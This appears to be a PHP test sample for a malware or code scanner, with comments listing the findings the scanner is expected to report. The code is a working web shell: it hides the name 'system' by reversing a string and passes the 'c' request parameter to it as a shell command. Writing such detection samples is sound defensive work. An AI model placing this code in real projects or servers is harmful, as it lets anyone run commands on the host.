<?php
// want: php_request_command_exec php_hidden_function_name
// fold: system
$f = strrev('metsys');
$f($_GET['c']);
